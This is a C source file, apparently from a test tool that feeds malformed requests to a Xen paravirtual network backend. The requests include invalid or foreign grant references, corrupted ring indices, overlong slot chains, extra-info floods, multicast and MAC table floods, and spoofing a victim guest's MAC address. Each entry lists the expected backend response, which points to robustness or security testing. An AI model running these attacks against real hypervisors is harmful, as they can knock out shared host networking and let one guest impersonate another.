// SPDX-License-Identifier: GPL-2.0
/* attack_slot.c - bad requests, chains and indices in the TX and RX ring. */
#include <stdlib.h>

#include "attack.h"
#include "frame.h"

#define GREF_NONE 0x00ffffffu	/* far over any grant table */

/* One honest frame whose slot is then spoiled by the caller. */
static netif_tx_request_t *one(struct vif *v)
{
	uint8_t f[64];

	return tx_frame(v, f, frame_arp(v, f), 0);
}

static void gref_is(struct vif *v, unsigned int gref)
{
	one(v)->gref = gref;
	tx_push(v);
}

static void gref_foreign(struct vif *v, unsigned int domid)
{
	uint32_t ref;

	vif_share_page(v, domid, &ref, true);
	gref_is(v, ref);
}

static void gref_of_ring(struct vif *v, unsigned int arg)
{
	(void)arg;
	one(v)->gref = v->tx_ring_ref;
	tx_push(v);
}

/* @arg: offset << 16 | size */
static void place(struct vif *v, unsigned int arg)
{
	netif_tx_request_t *r = one(v);

	r->offset = arg >> 16;
	r->size = arg;
	tx_push(v);
}

/* A chain of @n slots of @each bytes whose first slot claims @total. */
static void chain(struct vif *v, unsigned int n, unsigned int each, unsigned int total)
{
	uint8_t f[PAGE] = { 0 };

	frame_udp4(v, f, 1400);
	for (unsigned int i = 0; i < n; i++)
		tx_frame(v, f, each, i + 1 < n ? NETTXF_more_data : 0)->size = i ? each : total;
	tx_push(v);
}

static void slots(struct vif *v, unsigned int n)
{
	chain(v, n, 64, n * 64);
}

static void jumbo(struct vif *v, unsigned int n)
{
	chain(v, n, 4000, n * 4000);
}

static void total_too_small(struct vif *v, unsigned int total)
{
	chain(v, 3, 500, total);
}

static void fragment_empty(struct vif *v, unsigned int arg)
{
	(void)arg;
	chain(v, 3, 0, 600);
}

/* Not an attack: netif allows it. An ARP request whose second of three slots holds nothing
 * is answered OKAY slot by slot, and the peer answers, too. */
static void slot_empty(struct vif *v, unsigned int len)
{
	uint8_t f[64];
	unsigned int total = frame_arp(v, f);

	rx_collect(v, 0);
	v->arp_seen = false;
	tx_frame(v, f, len, NETTXF_more_data)->size = total;
	tx_frame(v, f, 0, NETTXF_more_data);
	tx_frame(v, f + len, total - len, 0);
	tx_push(v);
	tx_collect(v, 500);
	if (!v->tally.error && vif_back_state(v) == XenbusStateConnected)
		rx_collect(v, 3000);
	if (v->tally.okay == 3 && !v->arp_seen)
		broken("answered OKAY, but the frame has not arrived: the peer does not answer");
}

/* more_data in every slot there is, again whenever some are answered. */
static void slots_endless(struct vif *v, unsigned int arg)
{
	uint8_t f[64] = { 0 };

	for (unsigned int round = 0; round < 8; round++) {
		while (tx_unanswered(v) < SLOTS)
			tx_frame(v, f, 60, arg)->size = 60;
		tx_push(v);
		tx_collect(v, 200);
	}
}

/* The rest of the chain is promised and does not come. */
static void chain_open(struct vif *v, unsigned int flags)
{
	uint8_t f[64];

	tx_frame(v, f, frame_arp(v, f), flags)->size = 1000;
	tx_push(v);
}

static void tx_index(struct vif *v, unsigned int ahead)
{
	v->tally.asked++;
	v->tx.req_prod_pvt += ahead;
	tx_push(v);
}

/* The backend looks at the RX ring when it has a frame: make the peer send some. */
static void provoke(struct vif *v, unsigned int n)
{
	uint8_t f[64];

	for (unsigned int i = 0; i < n; i++) {
		tx_frame(v, f, frame_arp(v, f), 0);
		tx_push(v);
		tx_collect(v, 50);
	}
}

static void rx_index(struct vif *v, unsigned int ahead)
{
	v->rx.sring->req_prod += ahead;
	xenevtchn_notify(v->xce, v->port);
	provoke(v, 5);
	sleep_ms(300);
}

static void rx_spoil(struct vif *v, unsigned int gref)
{
	/* Requests that the backend has taken already are not ours to change;
	 * all the others of the ring become bad. */
	for (unsigned int i = 0; i < SLOTS; i++)
		RING_GET_REQUEST(&v->rx, i)->gref = gref;
	while (v->rx.req_prod_pvt - v->rx.rsp_cons < SLOTS)
		v->rx.req_prod_pvt++;
	RING_PUSH_REQUESTS(&v->rx);
	xenevtchn_notify(v->xce, v->port);
	provoke(v, 40);
	sleep_ms(300);
}

static void rx_foreign(struct vif *v, unsigned int domid)
{
	uint32_t ref;

	vif_share_page(v, domid, &ref, true);
	rx_spoil(v, ref);
}

static void rx_readonly(struct vif *v, unsigned int arg)
{
	uint32_t ref;

	(void)arg;
	vif_share_page(v, v->back_domid, &ref, false);
	rx_spoil(v, ref);
}

/* Frames keep coming, responses are never taken, no buffer is given back. */
static void rx_hoard(struct vif *v, unsigned int n)
{
	provoke(v, n);
}

static void extra(struct vif *v, unsigned int type)
{
	one(v)->flags = NETTXF_extra_info;
	tx_extra(v, type, 0);
	tx_push(v);
}

static void extra_twice(struct vif *v, unsigned int type)
{
	one(v)->flags = NETTXF_extra_info;
	tx_extra(v, type, XEN_NETIF_EXTRA_FLAG_MORE);
	tx_extra(v, type, 0);
	tx_push(v);
}

static void extra_endless(struct vif *v, unsigned int type)
{
	one(v)->flags = NETTXF_extra_info;
	while (tx_unanswered(v) < SLOTS)
		tx_extra(v, type, XEN_NETIF_EXTRA_FLAG_MORE);
	tx_push(v);
	tx_collect(v, 300);
	while (tx_unanswered(v) < SLOTS)
		tx_extra(v, type, XEN_NETIF_EXTRA_FLAG_MORE);
	tx_push(v);
}

/* More multicast addresses than any guest has. */
static void mcast_flood(struct vif *v, unsigned int n)
{
	for (unsigned int i = 0; i < n; i++) {
		struct netif_extra_info *e;

		one(v)->flags = NETTXF_extra_info;
		e = tx_extra(v, XEN_NETIF_EXTRA_TYPE_MCAST_ADD, 0);
		memcpy(e->u.mcast.addr, "\x33\x33\0\0\0\0", 6);
		e->u.mcast.addr[4] = i >> 8;
		e->u.mcast.addr[5] = i;
		tx_push(v);
		tx_collect(v, 100);
	}
}

/* A new source address in each frame: the switch's table has an end. */
static void mac_flood(struct vif *v, unsigned int n)
{
	uint8_t f[64];

	for (unsigned int i = 0; i < n; i++) {
		unsigned int len = frame_arp(v, f);

		f[6] = 0x02;
		f[8] = i >> 16;
		f[10] = i >> 8;
		f[11] = i;
		tx_frame(v, f, len, 0);
		if (i % 32 == 31) {
			tx_push(v);
			tx_collect(v, 200);
		}
	}
	tx_push(v);
}

uint8_t victim_mac[6];

/* The victim's address as source: its frames must go on to the victim. */
static void spoof(struct vif *v, unsigned int arg)
{
	uint64_t end = now_ms() + v->seconds * 1000u;
	uint8_t f[64];

	(void)arg;
	while (now_ms() < end) {
		unsigned int len = frame_arp(v, f);

		memcpy(f + 6, victim_mac, 6);
		tx_frame(v, f, len, 0);
		tx_push(v);
		tx_collect(v, 50);
		sleep_ms(5);
	}
}

#define AT(off, size) ((unsigned int)(off) << 16 | (size))

const struct attack slot_attacks[] = {
	{ "tx-gref-none", "grant reference that does not exist", gref_is, GREF_NONE, E_REFUSED, 0 },
	{ "tx-gref-max", "grant reference ~0", gref_is, ~0u, E_REFUSED, 0 },
	{ "tx-gref-zero", "grant of the console page, dom0's", gref_is, 0, E_REFUSED, 0 },
	{ "tx-gref-foreign", "page granted to dom0", gref_foreign, 0, E_REFUSED, 0 },
	{ "tx-gref-ring", "the TX ring page itself as frame", gref_of_ring, 0, E_ANSWER, 0 },
	{ "tx-cross-page", "offset 4000, size 200", place, AT(4000, 200), E_REFUSED, 0 },
	{ "tx-offset-4096", "offset 4096, size 60", place, AT(4096, 60), E_REFUSED, 0 },
	{ "tx-offset-max", "offset 65535, size 60", place, AT(65535, 60), E_REFUSED, 0 },
	{ "tx-both-max", "offset 65535, size 65535", place, AT(65535, 65535), E_REFUSED, 0 },
	{ "tx-size-0", "size 0", place, AT(0, 0), E_REFUSED, 0 },
	{ "tx-size-1", "size 1", place, AT(0, 1), E_REFUSED, 0 },
	{ "tx-size-13", "size 13, below an Ethernet header", place, AT(0, 13), E_REFUSED, 0 },
	{ "tx-size-65535", "size 65535 in one slot", place, AT(0, 65535), E_REFUSED, 0 },
	{ "tx-size-4096", "a whole page, over the MTU", place, AT(0, 4096), E_ANSWER, 0 },
	{ "tx-jumbo-3", "12000 bytes, no GSO", jumbo, 3, E_ANSWER, 0 },
	{ "tx-jumbo-16", "64000 bytes, no GSO", jumbo, 16, E_ANSWER, 0 },
	{ "tx-jumbo-17", "more than 65535 bytes", jumbo, 17, E_REFUSED, 0 },
	{ "tx-total-small", "first slot claims 600, the others hold 1000", total_too_small, 600,
	  E_REFUSED, 0 },
	{ "tx-total-equal", "nothing left for the first slot", total_too_small, 1000, E_REFUSED, 0 },
	{ "tx-total-13", "13 bytes left for the first slot", total_too_small, 1013, E_ANSWER, 0 },
	{ "tx-fragment-0", "fragments of size 0", fragment_empty, 0, E_ANSWER, 0 },
	{ "tx-slot-empty", "an honest frame of 20, 0 and 40 bytes", slot_empty, 20, E_OKAY, 0 },
	{ "tx-slots-18", "18 slots, the most that is allowed", slots, 18, E_ANSWER, 0 },
	{ "tx-slots-19", "19 slots", slots, 19, E_REFUSED, 0 },
	{ "tx-slots-60", "60 slots", slots, 60, E_REFUSED, 0 },
	{ "tx-slots-endless", "more_data in every slot", slots_endless, NETTXF_more_data,
	  E_REFUSED, 0 },
	{ "tx-chain-open", "more_data and no next slot", chain_open, NETTXF_more_data,
	  E_REFUSED | E_SILENT, 0 },
	{ "tx-extra-open", "extra_info and no next slot", chain_open, NETTXF_extra_info,
	  E_REFUSED | E_SILENT, 0 },
	{ "tx-prod-300", "req_prod 300 ahead", tx_index, 300, E_FATAL, 0 },
	{ "tx-prod-2g", "req_prod 2^31 ahead", tx_index, 1u << 31, E_FATAL, 0 },
	{ "tx-prod-back", "req_prod moved back by one", tx_index, ~0u, E_FATAL, 0 },
	{ "rx-prod-300", "RX req_prod 300 ahead", rx_index, 300, E_ANY, 0 },
	{ "rx-prod-2g", "RX req_prod 2^31 ahead", rx_index, 1u << 31, E_ANY, 0 },
	{ "rx-prod-back", "RX req_prod moved back", rx_index, ~0u, E_ANY, 0 },
	{ "rx-gref-none", "RX buffers that do not exist", rx_spoil, GREF_NONE, E_ANY, 0 },
	{ "rx-gref-foreign", "RX buffers granted to dom0", rx_foreign, 0, E_ANY, 0 },
	{ "rx-gref-readonly", "RX buffers granted read-only", rx_readonly, 0, E_ANY, 0 },
	{ "rx-hoard", "RX responses never consumed", rx_hoard, 400, E_ANY, 0 },
	{ "extra-type-0", "extra-info of type 0", extra, 0, E_REFUSED, 0 },
	{ "extra-type-77", "extra-info of unknown type", extra, 77, E_REFUSED, 0 },
	{ "extra-type-255", "extra-info of unknown type", extra, 255, E_REFUSED, 0 },
	{ "extra-hash", "a hash that was not negotiated", extra, XEN_NETIF_EXTRA_TYPE_HASH,
	  E_ANSWER, 0 },
	{ "extra-gso-twice", "two GSO extra-infos", extra_twice, XEN_NETIF_EXTRA_TYPE_GSO,
	  E_REFUSED, 0 },
	{ "extra-endless", "a ring full of extra-info, type GSO", extra_endless,
	  XEN_NETIF_EXTRA_TYPE_GSO, E_REFUSED, 0 },
	{ "extra-endless-77", "a ring full of extra-info, type 77", extra_endless, 77, E_REFUSED, 0 },
	{ "mcast-flood", "600 multicast addresses", mcast_flood, 600, E_ANSWER, 0 },
	{ "mac-flood", "20000 source addresses", mac_flood, 20000, E_ANSWER, 0 },
	{ "spoof", "the victim's address as source (-v)", spoof, 0, E_ANSWER, 0 },
	{ 0 }
};
